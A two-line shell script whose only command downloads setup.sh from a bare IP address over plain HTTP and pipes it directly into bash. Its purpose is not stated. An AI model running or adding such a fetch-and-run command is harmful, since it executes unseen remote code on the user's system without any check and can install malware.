#!/bin/sh
curl -fsSL http://198.51.100.23/setup.sh | bash
